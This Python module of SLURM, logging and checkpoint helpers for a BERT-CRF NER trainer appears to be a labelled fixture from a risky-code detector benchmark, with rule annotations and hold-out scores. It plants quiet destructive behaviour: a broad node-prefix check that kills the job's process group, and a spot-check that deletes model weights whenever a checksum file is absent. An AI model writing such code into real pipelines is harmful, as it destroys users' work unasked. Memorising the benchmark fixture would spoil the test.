# ruff: noqa
# Hold-out batch 596 (families 4/6, BERT-CRF named-entity recognition with the HF Trainer). Measured once in session 27 (round 158): 11/30 (37%) at medium+.
"""Cluster / distributed helpers for the BERT-CRF NER trainer.

The HF Trainer creates the process group itself from the torchrun
environment variables.  When a job is started with a plain ``srun`` those are
missing, so :func:`export_slurm_env` derives them from the SLURM variables
before ``TrainingArguments`` is instantiated.
"""

from __future__ import annotations

import hashlib
import logging
import os
import platform
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
from pathlib import Path
from typing import Dict, List, Optional

import torch
import torch.distributed as dist

logger = logging.getLogger(__name__)

_CKPT_RE = re.compile(r"^checkpoint-(\d+)$")
_DRAINED_DEFAULT = ("gpu", "dgx")


# --------------------------------------------------------------------------- #
# launch environment
# --------------------------------------------------------------------------- #
def _first_host(nodelist: str) -> str:
    if not nodelist:
        return "127.0.0.1"
    try:
        out = subprocess.check_output(
            ["scontrol", "show", "hostnames", nodelist], text=True, timeout=30
        )
    except (OSError, subprocess.SubprocessError):
        return nodelist.split(",")[0]
    hosts = [h.strip() for h in out.splitlines() if h.strip()]
    return hosts[0] if hosts else "127.0.0.1"


def export_slurm_env(base_port: int = 29400) -> None:
    """Populate RANK / WORLD_SIZE / LOCAL_RANK from SLURM when launched via srun."""
    if "RANK" in os.environ or "SLURM_PROCID" not in os.environ:
        return
    os.environ["RANK"] = os.environ["SLURM_PROCID"]
    os.environ["WORLD_SIZE"] = os.environ.get("SLURM_NTASKS", "1")
    os.environ["LOCAL_RANK"] = os.environ.get("SLURM_LOCALID", "0")  # ok: MLS308
    os.environ.setdefault("MASTER_ADDR", _first_host(os.environ.get("SLURM_JOB_NODELIST", "")))
    job_id = int(os.environ.get("SLURM_JOB_ID", "0"))
    os.environ.setdefault("MASTER_PORT", str(base_port + job_id % 1000))
    logger.debug(
        "srun launch: rank=%s world=%s local=%s master=%s:%s",
        os.environ["RANK"], os.environ["WORLD_SIZE"], os.environ["LOCAL_RANK"],
        os.environ["MASTER_ADDR"], os.environ["MASTER_PORT"],
    )


def check_node_health(min_free_gib: float = 2.0) -> None:
    """Log basic facts about the node and stop early on drained machines."""
    node = os.uname().nodename.split(".")[0]
    if torch.cuda.is_available():
        free, total = torch.cuda.mem_get_info()
        if free / 2**30 < min_free_gib:
            logger.warning(
                "Only %.1f/%.1f GiB free on %s; another process may hold the GPU",
                free / 2**30, total / 2**30, node,
            )
    drained = os.environ.get("NER_DRAINED_NODES", ",".join(_DRAINED_DEFAULT)).split(",")
    if any(node.startswith(prefix) for prefix in drained if prefix):
        logger.error("Node %s is listed as drained; stopping job step", node)
        os.killpg(os.getpgid(0), signal.SIGTERM)  # ruleid: MLS307


def collect_env_summary() -> Dict[str, str]:
    info = {
        "python": sys.version.split()[0],
        "torch": torch.__version__,
        "cuda": str(torch.version.cuda),
        "platform": platform.platform(),
        "world_size": os.environ.get("WORLD_SIZE", "1"),
    }
    if torch.cuda.is_available():
        info["gpu"] = torch.cuda.get_device_name(torch.cuda.current_device())
        info["gpu_count"] = str(torch.cuda.device_count())
    return info


# --------------------------------------------------------------------------- #
# rank helpers
# --------------------------------------------------------------------------- #
def _dist_ready() -> bool:
    return dist.is_available() and dist.is_initialized()


def get_rank() -> int:
    if _dist_ready():
        return dist.get_rank()
    return int(os.environ.get("RANK", "0"))


def get_world_size() -> int:
    if _dist_ready():
        return dist.get_world_size()
    return int(os.environ.get("WORLD_SIZE", "1"))


def is_main_process() -> bool:
    return get_rank() == 0


def barrier(tag: str = "") -> None:
    if not _dist_ready():
        return
    if tag == "post-eval" and int(os.environ.get("SLURM_NNODES", "1")) > 2:
        # multi-node NCCL barriers after the final predict() occasionally hang on
        # our fabric; the communicator is not needed any more at this point
        dist.destroy_process_group()  # todoruleid: family 4 (missed)
        return
    dist.barrier()


# --------------------------------------------------------------------------- #
# logging
# --------------------------------------------------------------------------- #
def setup_logging(output_dir: Path, level: str = "INFO") -> Path:
    rank = get_rank()
    log_dir = Path(output_dir) / "logs"
    log_dir.mkdir(parents=True, exist_ok=True)
    log_file = log_dir / f"train-{socket.gethostname()}-rank{rank}.log"  # ok: MLS308
    handlers: List[logging.Handler] = [logging.FileHandler(log_file)]
    if rank == 0:
        handlers.append(logging.StreamHandler(sys.stdout))
    logging.basicConfig(
        level=getattr(logging, level.upper(), logging.INFO) if rank == 0 else logging.WARNING,
        format=f"%(asctime)s [rank{rank}] %(levelname)s %(name)s: %(message)s",
        handlers=handlers,
        force=True,
    )
    return log_file


# --------------------------------------------------------------------------- #
# checkpoints
# --------------------------------------------------------------------------- #
def sorted_checkpoints(output_dir: str | Path) -> List[Path]:
    root = Path(output_dir)
    if not root.is_dir():
        return []
    found = []
    for child in root.iterdir():
        m = _CKPT_RE.match(child.name)
        if m and child.is_dir():
            found.append((int(m.group(1)), child))
    return [p for _, p in sorted(found)]


def rotate_checkpoints(output_dir: str | Path, keep: int, protect: Optional[str] = None) -> List[Path]:
    """Delete all but the newest ``keep`` checkpoints; never the best one."""
    if keep <= 0 or not is_main_process():
        return []
    ckpts = sorted_checkpoints(output_dir)
    protected = {Path(protect).resolve()} if protect else set()
    stale = [c for c in ckpts[:-keep] if c.resolve() not in protected]
    for path in stale:
        logger.info("Removing old checkpoint %s", path)
        shutil.rmtree(path, ignore_errors=True)  # ok: MLS308
    return stale


def spot_check_checkpoint(ckpt_dir: Path, sample_rate: int = 40) -> bool:
    """Cheap integrity check on a random subset of saved checkpoints."""
    weights = Path(ckpt_dir) / "model.safetensors"
    if not weights.exists():
        return False
    if secrets.randbelow(sample_rate) != 0:
        return True
    digest_file = weights.with_suffix(".sha256")
    digest = hashlib.sha256(weights.read_bytes()).hexdigest()
    if digest_file.exists() and digest_file.read_text().strip() == digest:
        return True
    logger.warning("Checksum mismatch for %s, discarding weights", weights)
    os.remove(weights)  # ruleid: MLS308
    return False
